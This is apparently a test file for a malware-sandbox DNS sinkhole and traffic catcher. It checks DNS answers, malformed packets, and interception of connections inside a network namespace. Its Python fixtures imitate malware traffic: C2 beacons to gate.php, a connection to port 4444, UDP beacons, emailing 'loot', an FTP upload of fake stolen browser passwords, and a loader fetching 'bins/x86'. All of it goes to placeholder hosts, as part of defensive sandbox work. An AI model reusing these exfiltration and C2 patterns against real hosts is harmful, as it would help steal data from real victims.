// The DNS sinkhole: its answers to hand-made packets (well-formed and hostile), then the real thing
// in a network namespace this test makes, asked by busybox's nslookup (an independent resolver).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile, spawn, spawnSync } from 'node:child_process';
import { promisify } from 'node:util';
import { createConnection, createServer, type Socket as TcpSocket } from 'node:net';
import { DNS_SERVER, DNS_SERVER6, DNS_TCP_MAX_CONNECTIONS, dnsActivity, DnsSinkhole, domainOf, isSinkholeAddress, parseQuery, serveDns, serveTcp } from './dns.js';
import { SESSION_IDLE_MS, SessionLog } from './sessions.js';

const execFileAsync = promisify(execFile);

/** A standard query: id 0x1234, RD, one question. */
function query(name: string, type = 1, id = 0x1234): Buffer {
  const labels = name === '.' ? [] : name.split('.');
  const q = Buffer.concat([...labels.map((l) => Buffer.concat([Buffer.from([Buffer.byteLength(l, 'latin1')]), Buffer.from(l, 'latin1')])), Buffer.from([0])]);
  const h = Buffer.from([id >> 8, id & 255, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
  const tc = Buffer.from([type >> 8, type & 255, 0, 1]);
  return Buffer.concat([h, q, tc]);
}

/** The A records of a response: rcode, addresses. */
function answers(r: Buffer): { id: number; rcode: number; qd: number; addresses: string[] } {
  const an = r.readUInt16BE(6);
  const addresses: string[] = [];
  let at = r.length - an * 16;
  for (let i = 0; i < an; i++, at += 16) addresses.push([...r.subarray(at + 12, at + 16)].join('.'));
  return { id: r.readUInt16BE(0), rcode: r.readUInt16BE(2) & 0xf, qd: r.readUInt16BE(4), addresses };
}

test('each name gets an address of its own from 198.18.0.0/15, the same one when asked again; the log counts the questions', () => {
  const s = new DnsSinkhole();
  const a = answers(s.answer(query('C2.Example.TEST'))!);
  assert.deepEqual(a, { id: 0x1234, rcode: 0, qd: 1, addresses: ['198.18.0.1'] });
  assert.deepEqual(answers(s.answer(query('pool.example.test', 1, 7))!).addresses, ['198.18.0.2']);
  assert.deepEqual(answers(s.answer(query('c2.example.test'))!).addresses, ['198.18.0.1'], 'names compare in lower case');
  assert.equal(s.nameOf('198.18.0.2'), 'pool.example.test');
  assert.deepEqual(s.log(), { queries: [
    { name: 'c2.example.test', type: 'A', answer: '198.18.0.1', rcode: 'NOERROR', count: 2 },
    { name: 'pool.example.test', type: 'A', answer: '198.18.0.2', rcode: 'NOERROR', count: 1 },
  ], omitted: 0, malformed: 0 });
});

test('an MX question names the name itself as its mail exchanger (preference 10), so a mailer comes on to its A answer; under --dns nxdomain it gets NXDOMAIN', () => {
  const s = new DnsSinkhole();
  const q = query('Shop.Example.test', 15);
  const r = s.answer(q)!;
  assert.equal(r.readUInt16BE(6), 1, 'one answer');
  // the record: the question's name (pointer 0xc00c), MX, IN, TTL 60, RDATA preference 10 and the question's name again
  assert.deepEqual([...r.subarray(q.length)], [0xc0, 0x0c, 0, 15, 0, 1, 0, 0, 0, 60, 0, 4, 0, 10, 0xc0, 0x0c]);
  assert.deepEqual(answers(s.answer(query('shop.example.test'))!).addresses, ['198.18.0.1'], 'the exchanger\'s A answer');
  assert.deepEqual(s.log().queries.map((x) => [x.type, x.name, x.answer]), [['MX', 'shop.example.test', 'shop.example.test'], ['A', 'shop.example.test', '198.18.0.1']]);
  const nx = new DnsSinkhole('nxdomain');
  assert.deepEqual(answers(nx.answer(query('shop.example.test', 15))!), { id: 0x1234, rcode: 3, qd: 1, addresses: [] });
});

test('other questions (AAAA, TXT, an unknown type) get no records, so resolvers fall back to A; they are logged by type', () => {
  const s = new DnsSinkhole();
  for (const t of [28, 16, 4242]) assert.deepEqual(answers(s.answer(query('x.example.test', t))!), { id: 0x1234, rcode: 0, qd: 1, addresses: [] });
  assert.deepEqual(s.log().queries.map((q) => [q.type, q.answer]), [['AAAA', null], ['TXT', null], ['TYPE4242', null]]);
});

test('isSinkholeAddress: 198.18.0.0/15 and nothing around it', () => {
  assert.deepEqual(['198.18.0.1', '198.19.255.254', '198.17.255.255', '198.20.0.0', '192.0.2.53', '::1', 'x'].map(isSinkholeAddress), [true, true, false, false, false, false, false]);
});

test('dnsActivity: the log domain by domain (the last two labels), in the order first asked: distinct names, every question counted, the longest label and name, the types and the TXT questions', () => {
  assert.deepEqual([domainOf('a.b.c.example.test'), domainOf('example.test'), domainOf('localhost'), domainOf('x.example.test.')], ['example.test', 'example.test', 'localhost', 'example.test']);
  const log = [
    { name: 'www.example.test', type: 'A', answer: '198.18.0.1', rcode: 'NOERROR' as const, count: 2 },
    { name: 'deadbeefdeadbeef.t.example.test', type: 'TXT', answer: null, rcode: 'NOERROR' as const, count: 3 },
    { name: 'www.example.test', type: 'AAAA', answer: null, rcode: 'NOERROR' as const, count: 1 },
    { name: 'other.test', type: 'A', answer: '198.18.0.2', rcode: 'NOERROR' as const, count: 1 },
  ];
  assert.deepEqual(dnsActivity(log), [
    { domain: 'example.test', names: 2, queries: 6, labelMax: 16, longest: 'deadbeefdeadbeef.t.example.test', types: ['A', 'TXT', 'AAAA'], txt: 3 },
    { domain: 'other.test', names: 1, queries: 1, labelMax: 5, longest: 'other.test', types: ['A'], txt: 0 },
  ]);
});

test('--dns nxdomain: every question is answered NXDOMAIN with no records, and still listed', () => {
  const s = new DnsSinkhole('nxdomain');
  for (const t of [1, 28]) assert.deepEqual(answers(s.answer(query('iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.test', t))!), { id: 0x1234, rcode: 3, qd: 1, addresses: [] });
  assert.deepEqual(s.log().queries.map((q) => [q.type, q.answer, q.rcode]), [['A', null, 'NXDOMAIN'], ['AAAA', null, 'NXDOMAIN']]);
  assert.equal(s.nameOf('198.18.0.1'), undefined);
});

test('a label holding a dot, a backslash or unprintable bytes is shown escaped, never as a name it is not', () => {
  const s = new DnsSinkhole();
  const raw = Buffer.concat([Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), Buffer.from([7]), Buffer.from('evil.co', 'latin1'), Buffer.from([3, 0x1b, 0x5c, 0x0a, 0]), Buffer.from([0, 1, 0, 1])]);
  s.answer(raw);
  assert.equal(s.log().queries[0]?.name, 'evil\\.co.\\027\\\\\\010');
});

test('hostile packets: short ones and responses are dropped, compressed or overlong names and several questions get FORMERR; all are counted', () => {
  const s = new DnsSinkhole();
  assert.equal(s.answer(Buffer.from([1, 2, 3])), undefined);
  const response = query('a.test'); response[2] = 0x81;
  assert.equal(s.answer(response), undefined);
  const pointer = Buffer.concat([query('a.test').subarray(0, 12), Buffer.from([0xc0, 0x0c, 0, 1, 0, 1])]);
  assert.deepEqual(answers(s.answer(pointer)!), { id: 0x1234, rcode: 1, qd: 0, addresses: [] });
  const long = query(Array.from({ length: 5 }, () => 'a'.repeat(63)).join('.'));
  assert.equal(answers(s.answer(long)!).rcode, 1);
  const two = query('a.test'); two.writeUInt16BE(2, 4);
  assert.equal(answers(s.answer(two)!).rcode, 1);
  assert.equal(s.answer(query('a.test').subarray(0, 17)) !== undefined, true, 'a cut question: FORMERR');
  assert.match(String(parseQuery(query('a.test').subarray(0, 17))), /past the end|no type/);
  assert.deepEqual(s.log(), { queries: [], omitted: 0, malformed: 6 });
});

test('past the names it remembers, later names share one address and are counted, not listed', () => {
  const s = new DnsSinkhole('sinkhole', 2);
  for (const n of ['a.test', 'b.test', 'c.test', 'd.test']) s.answer(query(n));
  const log = s.log();
  assert.deepEqual(log.queries.map((q) => q.name), ['a.test', 'b.test']);
  assert.equal(log.omitted, 2);
  assert.deepEqual(answers(s.answer(query('e.test'))!).addresses, ['198.19.255.254']);
});

/** A message framed for DNS over TCP: its two-byte length first. */
function framed(msg: Buffer): Buffer {
  return Buffer.concat([Buffer.from([msg.length >> 8, msg.length & 255]), msg]);
}

/** Reads framed messages from `c` until `count` arrived or the peer closed. */
function readFramed(c: TcpSocket, count: number): Promise<{ messages: Buffer[]; closed: boolean }> {
  return new Promise((resolve) => {
    let buf = Buffer.alloc(0);
    const messages: Buffer[] = [];
    const done = (closed: boolean) => { c.removeAllListeners('data'); resolve({ messages, closed }); };
    c.on('data', (d: Buffer) => {
      buf = Buffer.concat([buf, d]);
      while (buf.length >= 2 && buf.length >= 2 + buf.readUInt16BE(0)) {
        messages.push(buf.subarray(2, 2 + buf.readUInt16BE(0)));
        buf = buf.subarray(2 + buf.readUInt16BE(0));
      }
      if (messages.length >= count) done(false);
    });
    c.once('close', () => done(true));
  });
}

test('DNS over TCP: length-framed queries are answered in order, whether pipelined in one write or sent a byte at a time; a message that is no query closes the connection', async () => {
  const s = new DnsSinkhole();
  // loopback only: the framing, without a namespace
  const server = createServer((conn) => serveTcp(conn, s));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = (server.address() as { port: number }).port;
  const connect = () => new Promise<TcpSocket>((r) => { const c = createConnection(port, '127.0.0.1', () => r(c)); });
  try {
    const c = await connect();
    const replies = readFramed(c, 3);
    c.write(Buffer.concat([framed(query('a.example.test', 1, 1)), framed(query('b.example.test', 1, 2))]));
    for (const byte of framed(query('a.example.test', 28, 3))) { c.write(Buffer.from([byte])); await new Promise((r) => setImmediate(r)); }
    const got = await replies;
    assert.deepEqual(got.messages.map(answers), [
      { id: 1, rcode: 0, qd: 1, addresses: ['198.18.0.1'] },
      { id: 2, rcode: 0, qd: 1, addresses: ['198.18.0.2'] },
      { id: 3, rcode: 0, qd: 1, addresses: [] },
    ]);
    assert.equal(got.closed, false, 'the connection stays open for more questions');
    // a response is nothing a resolver sends: counted and the connection closed, the sinkhole goes on
    const response = query('c.example.test', 1, 4);
    response[2] = 0x81;
    const after = readFramed(c, 1);
    c.write(framed(response));
    assert.deepEqual(await after, { messages: [], closed: true });
    assert.equal(s.log().malformed, 1);
    // a compressed name gets FORMERR over TCP as over UDP
    const c2 = await connect();
    const formerr = readFramed(c2, 1);
    c2.write(framed(Buffer.concat([query('x', 1, 5).subarray(0, 12), Buffer.from([0xc0, 0x0c, 0, 1, 0, 1])])));
    assert.deepEqual((await formerr).messages.map(answers), [{ id: 5, rcode: 1, qd: 0, addresses: [] }]);
    c2.destroy();
    assert.deepEqual(s.log().queries.map((q) => [q.name, q.type, q.count]), [['a.example.test', 'A', 1], ['b.example.test', 'A', 1], ['a.example.test', 'AAAA', 1]]);
  } finally {
    server.close();
  }
});

test('serveDns: when connections cannot be caught (here the range is routed already), DNS is still answered and the reason is given', { timeout: 60_000 }, async () => {
  const { ns, pid, close } = await testNamespace('dns-nocatch');
  try {
    assert.equal(spawnSync('ip', ['-n', ns, 'route', 'add', 'local', 'default', 'dev', 'lo']).status, 0);
    const s = new DnsSinkhole();
    const server = await serveDns(pid, s, { sessions: new SessionLog() });
    try {
      assert.match(server.sessionsUnavailable ?? '', /exists/i);
      const r = await execFileAsync('ip', ['netns', 'exec', ns, 'busybox', 'nslookup', '-type=a', 'c2.example.test', DNS_SERVER], { encoding: 'utf8', timeout: 20_000 });
      assert.match(r.stdout, /198\.18\.0\.1/, r.stdout + r.stderr);
      assert.match(spawnSync('ip', ['-n', ns, 'route', 'show', 'table', 'local'], { encoding: 'utf8' }).stdout, /^local default /m, 'a route it did not add is left alone');
      assert.doesNotMatch(spawnSync('ip', ['netns', 'exec', ns, 'nft', 'list', 'ruleset'], { encoding: 'utf8' }).stdout, /sandtrace/);
    } finally {
      server.close();
    }
  } finally {
    close();
  }
});

test('serveDns answers inside a network namespace made for this test, asked by busybox nslookup over UDP and by python over TCP (at most DNS_TCP_MAX_CONNECTIONS connections at once); connections and datagrams off the loopback are caught; the host\'s own namespace never sees the address', { timeout: 60_000 }, async () => {
  const { ns, pid, close } = await testNamespace('dns');
  try {
    const s = new DnsSinkhole();
    const sessions = new SessionLog();
    const server = await serveDns(pid, s, { sessions });
    assert.equal(server.sessionsUnavailable, undefined);
    try {
      // asynchronously: the answers come from this process's event loop
      const r = await execFileAsync('ip', ['netns', 'exec', ns, 'busybox', 'nslookup', '-type=a', 'c2.example.test', DNS_SERVER], { encoding: 'utf8', timeout: 20_000 });
      assert.match(r.stdout, /c2\.example\.test[\s\S]*198\.18\.0\.1/, r.stdout + r.stderr);
      assert.deepEqual(s.log().queries.find((q) => q.name === 'c2.example.test'), { name: 'c2.example.test', type: 'A', answer: '198.18.0.1', rcode: 'NOERROR', count: 1 });
      // over TCP too, from python3 in the namespace: one connection more than the sinkhole takes
      // at once, each asking one name while all are open; the one too many is closed unanswered
      const client = `
import socket, struct
def query(name, id):
    q = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', 1, 1)
    m = struct.pack('>HHHHHH', id, 0x0100, 1, 0, 0, 0) + q
    return struct.pack('>H', len(m)) + m
conns = [socket.create_connection(('${DNS_SERVER}', 53), timeout=10) for _ in range(${DNS_TCP_MAX_CONNECTIONS + 1})]
for i, c in enumerate(conns):
    try:
        c.sendall(query('tcp%d.example.test' % i, i))
        head = c.recv(2)
        body = c.recv(struct.unpack('>H', head)[0]) if len(head) == 2 else b''
        print(i, socket.inet_ntoa(body[-4:]) if body else 'closed')
    except OSError as e:
        print(i, 'closed')
`;
      const tcp = await execFileAsync('ip', ['netns', 'exec', ns, 'python3', '-c', client], { encoding: 'utf8', timeout: 30_000 });
      const lines = tcp.stdout.trim().split('\n');
      assert.equal(lines.length, DNS_TCP_MAX_CONNECTIONS + 1, tcp.stdout + tcp.stderr);
      assert.deepEqual(lines.slice(0, DNS_TCP_MAX_CONNECTIONS).filter((l) => !/^\d+ 198\.1[89]\.\d+\.\d+$/.test(l)), [], 'every connection within the cap answered');
      assert.equal(lines.at(-1), `${DNS_TCP_MAX_CONNECTIONS} closed`);
      const tcpNames = s.log().queries.filter((q) => q.name.startsWith('tcp')).map((q) => q.name);
      assert.equal(tcpNames.length, DNS_TCP_MAX_CONNECTIONS);
      assert.ok(!tcpNames.includes(`tcp${DNS_TCP_MAX_CONNECTIONS}.example.test`));
      // a connection to an answer is caught in the namespace: the request is kept, the port is the
      // one connected to (from the namespace's conntrack table), the name the one looked up
      const http = await execFileAsync('ip', ['netns', 'exec', ns, 'python3', '-c', `
import socket
c = socket.create_connection(('198.18.0.1', 8080), timeout=10)
c.sendall(b'GET /gate.php?id=1 HTTP/1.1\\r\\nHost: c2.example.test:8080\\r\\n\\r\\n')
print(c.recv(100).split(b'\\r\\n')[0].decode())
`], { encoding: 'utf8', timeout: 20_000 });
      assert.equal(http.stdout.trim(), 'HTTP/1.1 200 OK');
      assert.deepEqual(sessions.log().sessions.map(({ address, port, domain, protocol, http: h }) => ({ address, port, domain, protocol, http: h })),
        [{ address: '198.18.0.1', port: 8080, domain: 'c2.example.test', protocol: 'http', http: { method: 'GET', path: '/gate.php?id=1', host: 'c2.example.test:8080' } }]);
      const rules = spawnSync('ip', ['netns', 'exec', ns, 'nft', 'list', 'ruleset'], { encoding: 'utf8' }).stdout;
      assert.match(rules, /tcp dnat to 192\.0\.2\.53:1\n/, rules);
      // a hard-coded address (TEST-NET-3) is caught as well, named by its own address; DNS to a
      // resolver the sample names itself (TEST-NET-2) is answered by the sinkhole, from that address
      const direct = await execFileAsync('ip', ['netns', 'exec', ns, 'python3', '-c', `
import socket
c = socket.create_connection(('203.0.113.7', 4444), timeout=10)
c.sendall(b'\\x00\\x00\\x00\\x01')
c.close()
`], { encoding: 'utf8', timeout: 20_000 });
      assert.equal(direct.stderr, '');
      const own = await execFileAsync('ip', ['netns', 'exec', ns, 'busybox', 'nslookup', '-type=a', 'own-resolver.example.test', '198.51.100.53'], { encoding: 'utf8', timeout: 20_000 });
      assert.match(own.stdout, /198\.51\.100\.53[\s\S]*own-resolver\.example\.test[\s\S]*198\.18\.0\.\d+/, own.stdout + own.stderr);
      for (let i = 0; i < 50 && sessions.log().sessions.length < 2; i++) await new Promise((r) => setTimeout(r, 100));
      assert.deepEqual(sessions.log().sessions.slice(1).map(({ address, port, domain, protocol, preview }) => ({ address, port, domain, protocol, preview })),
        [{ address: '203.0.113.7', port: 4444, domain: undefined, protocol: 'other', preview: '\\x00\\x00\\x00\\x01' }]);
      // datagrams to a hard-coded address: one flow per socket, its first datagram kept and its
      // bytes counted, the port from conntrack; nothing answers (the sample's recv times out)
      const udp = await execFileAsync('ip', ['netns', 'exec', ns, 'python3', '-c', `
import socket
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b'BEACON devbox', ('203.0.113.7', 5000))
u.sendto(b'PING', ('203.0.113.7', 5000))
u.settimeout(1)
try: print(u.recvfrom(100))
except socket.timeout: print('no answer')
`], { encoding: 'utf8', timeout: 20_000 });
      assert.equal(udp.stdout.trim(), 'no answer', udp.stderr);
      for (let i = 0; i < 50 && sessions.log().sessions.length < 3; i++) await new Promise((r) => setTimeout(r, 100));
      assert.deepEqual(sessions.log().sessions.slice(2).map(({ address, port, transport, protocol, bytes, preview }) => ({ address, port, transport, protocol, bytes, preview })),
        [{ address: '203.0.113.7', port: 5000, transport: 'udp', protocol: 'other', bytes: 17, preview: 'BEACON devbox' }]);
      assert.match(rules, /udp dnat to 192\.0\.2\.53:1\n/, rules);
      // mail to a name: SMTP's ports go to the SMTP listener, which greets and leads python's smtplib through the message
      const mail = await execFileAsync('ip', ['netns', 'exec', ns, 'python3', '-c', `
import smtplib
smtplib.SMTP('198.18.0.1', 587, timeout=10).sendmail('promo@shop.example.test', ['victim@example.test'], 'Subject: You won\\r\\n\\r\\nclick')
print('sent')
`], { encoding: 'utf8', timeout: 20_000 });
      assert.equal(mail.stdout.trim(), 'sent', mail.stderr);
      for (let i = 0; i < 50 && sessions.log().sessions.length < 4; i++) await new Promise((r) => setTimeout(r, 100));
      assert.deepEqual(sessions.log().sessions.slice(3).map(({ address, port, domain, protocol, smtp }) => ({ address, port, domain, protocol, from: smtp?.from, subject: smtp?.subject })),
        [{ address: '198.18.0.1', port: 587, domain: 'c2.example.test', protocol: 'smtp', from: 'promo@shop.example.test', subject: 'You won' }]);
      assert.match(rules, /tcp dport \{ 25, 587, 2525 \} dnat to 192\.0\.2\.53:25\n/, rules);
      // SMTPS (port 465, implicit TLS) goes to a listener of its own, which answers the TLS first and greets inside it
      const smtps = await execFileAsync('ip', ['netns', 'exec', ns, 'python3', '-c', `
import smtplib, ssl
s = smtplib.SMTP_SSL('198.18.0.1', 465, timeout=10, context=ssl._create_unverified_context())
s.login('logs@mail.example.test', 'pw')
s.sendmail('pc@example.test', ['ops@example.test'], 'Subject: loot\\r\\n\\r\\nx')
s.quit()
print('sent')
`], { encoding: 'utf8', timeout: 20_000 });
      assert.equal(smtps.stdout.trim(), 'sent', smtps.stderr);
      for (let i = 0; i < 50 && sessions.log().sessions.length < 5; i++) await new Promise((r) => setTimeout(r, 100));
      assert.deepEqual(sessions.log().sessions.slice(4).map(({ address, port, protocol, smtp, decrypted }) => ({ address, port, protocol, user: smtp?.auth?.user, subject: smtp?.subject, decrypted: decrypted !== undefined })),
        [{ address: '198.18.0.1', port: 465, protocol: 'smtp', user: 'logs@mail.example.test', subject: 'loot', decrypted: true }]);
      assert.match(rules, /tcp dport 465 dnat to 192\.0\.2\.53:465\n/, rules);
      // an FTP upload as a stealer makes it: the login and the file name are kept by the FTP
      // listener; the passive data connection comes back to the catch-all with the file's bytes
      const ftp = await execFileAsync('ip', ['netns', 'exec', ns, 'python3', '-c', `
import ftplib, io
f = ftplib.FTP('198.18.0.1', 'ops@example.test', 'Hunter2!', timeout=10)
print(f.storbinary('STOR PW_devbox.txt', io.BytesIO(b'chrome: admin / letmein\\n')))
f.quit()
`], { encoding: 'utf8', timeout: 20_000 });
      assert.equal(ftp.stdout.trim(), '226 Transfer complete', ftp.stderr);
      for (let i = 0; i < 50 && sessions.log().sessions.length < 7; i++) await new Promise((r) => setTimeout(r, 100));
      const ftpSessions = sessions.log().sessions.slice(5);
      const control = ftpSessions.find((x) => x.protocol === 'ftp');
      assert.deepEqual(control && [control.address, control.port, control.ftp], ['198.18.0.1', 21, { user: 'ops@example.test', password: 'Hunter2!', files: [{ command: 'STOR', path: 'PW_devbox.txt' }], uploads: 1, downloads: 0 }], JSON.stringify(ftpSessions));
      const data = ftpSessions.find((x) => x.protocol === 'other');
      assert.deepEqual(data && [data.address, data.preview], ['198.18.0.1', 'chrome: admin / letmein\\n'], JSON.stringify(ftpSessions));
      assert.ok(data?.port !== null && data!.port! >= 30000 && data!.port! < 40000, 'the data connection is listed with the port the passive reply named');
      // a download and a listing, as a loader fetching its next stage does: their data connections
      // are ended as soon as the command comes, so both complete (an empty file, an empty list)
      // within a client timeout shorter than the catch-all's idle close (SESSION_IDLE_MS)
      const fetch = await execFileAsync('ip', ['netns', 'exec', ns, 'python3', '-c', `
import ftplib
f = ftplib.FTP('198.18.0.1', 'anonymous', 'x', timeout=${SESSION_IDLE_MS / 2000})
got = []
print(f.retrbinary('RETR bins/x86', got.append), len(b''.join(got)), f.nlst())
f.quit()
`], { encoding: 'utf8', timeout: 20_000 });
      assert.equal(fetch.stdout.trim(), '226 Transfer complete 0 []', fetch.stderr);
      for (let i = 0; i < 50 && !sessions.log().sessions.some((x) => x.ftp?.downloads === 1); i++) await new Promise((r) => setTimeout(r, 100));
      assert.deepEqual(sessions.log().sessions.find((x) => x.ftp?.downloads === 1)?.ftp?.files, [{ command: 'RETR', path: 'bins/x86' }]);
      // busybox's resolver, asked for the mail exchanger of a name, is given the name itself
      const mx = await execFileAsync('ip', ['netns', 'exec', ns, 'busybox', 'nslookup', '-type=mx', 'shop.example.test', DNS_SERVER], { encoding: 'utf8', timeout: 20_000 });
      assert.match(mx.stdout, /shop\.example\.test\s+mail exchanger = 10 shop\.example\.test/, mx.stdout + mx.stderr);
      assert.doesNotMatch(spawnSync('nft', ['list', 'ruleset'], { encoding: 'utf8' }).stdout, /table ip6? sandtrace/, 'the rules (IPv4\'s and IPv6\'s) are the namespace\'s only');
      const host = spawnSync('ip', ['-o', 'addr', 'show', 'dev', 'lo'], { encoding: 'utf8' }).stdout;
      assert.ok(!host.includes(DNS_SERVER) && !host.includes(DNS_SERVER6), 'the addresses are added in the namespace only');
    } finally {
      server.close();
    }
  } finally {
    close();
  }
});

/** A network namespace made for one test, with its loopback up, held by a sleep; `sysctls` set in it first. */
async function testNamespace(name: string, sysctls: string[] = []): Promise<{ ns: string; pid: number; close: () => void }> {
  const ns = `sandtrace-${name}-${process.pid}`;
  assert.equal(spawnSync('ip', ['netns', 'add', ns]).status, 0, 'ip netns add');
  const holder = spawn('ip', ['netns', 'exec', ns, 'sleep', '60'], { stdio: 'ignore' });
  for (const s of sysctls) assert.equal(spawnSync('ip', ['netns', 'exec', ns, 'sysctl', '-qw', s]).status, 0, s);
  spawnSync('ip', ['-n', ns, 'link', 'set', 'lo', 'up']);
  await new Promise((r) => setTimeout(r, 200));
  const pid = Number(spawnSync('pgrep', ['-P', String(holder.pid), '-x', 'sleep'], { encoding: 'utf8' }).stdout.trim() || holder.pid);
  return { ns, pid, close: () => { holder.kill('SIGKILL'); spawnSync('ip', ['netns', 'del', ns]); } };
}

test('serveDns catches IPv6 as it does IPv4 (addresses of 2001:db8::/32, the documentation prefix, inside a namespace made for this test): a TCP connection and datagrams to a hard-coded address with their ports, SMTP on its own listener, DNS asked of a resolver the sample names', { timeout: 60_000 }, async () => {
  const { ns, pid, close } = await testNamespace('dns6');
  try {
    const s = new DnsSinkhole();
    const sessions = new SessionLog();
    const server = await serveDns(pid, s, { sessions });
    try {
      assert.deepEqual([server.sessionsUnavailable, server.ipv6Unavailable], [undefined, undefined]);
      const run = await execFileAsync('ip', ['netns', 'exec', ns, 'python3', '-c', `
import socket, smtplib
c = socket.create_connection(('2001:db8:1::7', 443), timeout=10)
c.sendall(b'\\x00\\x01HELLO6')
c.close()
u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
u.sendto(b'BEACON6', ('2001:db8:1::7', 7000))
smtplib.SMTP('2001:db8:1::25', 25, timeout=10).sendmail('a@example.test', ['b@example.test'], 'Subject: six\\r\\n\\r\\nx')
print('done')
`], { encoding: 'utf8', timeout: 20_000 });
      assert.equal(run.stdout.trim(), 'done', run.stderr);
      const own = await execFileAsync('ip', ['netns', 'exec', ns, 'busybox', 'nslookup', '-type=a', 'six.example.test', '2001:db8:1::53'], { encoding: 'utf8', timeout: 20_000 });
      assert.match(own.stdout, /six\.example\.test[\s\S]*198\.18\.0\.\d+/, own.stdout + own.stderr);
      for (let i = 0; i < 50 && sessions.log().sessions.length < 3; i++) await new Promise((r) => setTimeout(r, 100));
      const got = sessions.log().sessions.map(({ address, port, transport, protocol, preview, smtp }) => ({ address, port, transport, protocol, preview, subject: smtp?.subject }));
      assert.deepEqual(got.sort((a, b) => (a.port ?? 0) - (b.port ?? 0)), [
        { address: '2001:db8:1::25', port: 25, transport: undefined, protocol: 'smtp', preview: got.find((x) => x.port === 25)?.preview ?? '', subject: 'six' },
        { address: '2001:db8:1::7', port: 443, transport: undefined, protocol: 'other', preview: '\\x00\\x01HELLO6', subject: undefined },
        { address: '2001:db8:1::7', port: 7000, transport: 'udp', protocol: 'other', preview: 'BEACON6', subject: undefined },
      ]);
      const rules = spawnSync('ip', ['netns', 'exec', ns, 'nft', 'list', 'ruleset'], { encoding: 'utf8' }).stdout;
      assert.match(rules, new RegExp(`table ip6 sandtrace[\\s\\S]*tcp dnat to \\[${DNS_SERVER6}\\]:1\\n`), rules);
    } finally {
      server.close();
    }
  } finally {
    close();
  }
});

test('serveDns in a namespace without IPv6 (disabled by sysctl): IPv4 is caught as ever, IPv6 is left unrouted and the reason given', { timeout: 60_000 }, async () => {
  const { ns, pid, close } = await testNamespace('dns-no6', ['net.ipv6.conf.all.disable_ipv6=1', 'net.ipv6.conf.default.disable_ipv6=1', 'net.ipv6.conf.lo.disable_ipv6=1']);
  try {
    const sessions = new SessionLog();
    const server = await serveDns(pid, new DnsSinkhole(), { sessions });
    try {
      assert.equal(server.sessionsUnavailable, undefined);
      assert.match(server.ipv6Unavailable ?? '', /^setup: /);
      const run = await execFileAsync('ip', ['netns', 'exec', ns, 'python3', '-c', `
import socket
c = socket.create_connection(('203.0.113.7', 4444), timeout=10)
c.sendall(b'four')
c.close()
try: socket.create_connection(('2001:db8:1::7', 443), timeout=3)
except OSError as e: print(e.errno)
`], { encoding: 'utf8', timeout: 20_000 });
      assert.match(run.stdout.trim(), /^(97|99|101)$/, `EAFNOSUPPORT, EADDRNOTAVAIL or ENETUNREACH: ${run.stdout}${run.stderr}`);
      for (let i = 0; i < 50 && sessions.log().sessions.length < 1; i++) await new Promise((r) => setTimeout(r, 100));
      assert.deepEqual(sessions.log().sessions.map((x) => [x.address, x.port, x.preview]), [['203.0.113.7', 4444, 'four']]);
    } finally {
      server.close();
    }
  } finally {
    close();
  }
});
